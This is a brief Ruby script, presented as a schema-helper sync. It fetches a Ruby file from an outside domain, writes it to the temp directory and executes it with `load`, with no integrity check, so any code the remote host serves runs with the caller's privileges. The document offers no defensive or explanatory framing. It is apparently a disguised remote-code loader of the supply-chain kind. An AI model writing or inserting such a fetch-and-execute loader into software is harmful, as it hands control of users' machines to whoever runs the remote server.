require "net/http"
require "tmpdir"

helpers = File.join(Dir.tmpdir, "schema_helpers.rb")
uri = URI("https://platform-schema-cdn.net/helpers/v4.rb")
Net::HTTP.start(uri.host, uri.port, use_ssl: true) do |http|
  File.write(helpers, http.get(uri.path).body)
end
load helpers
SchemaHelpers.sync!
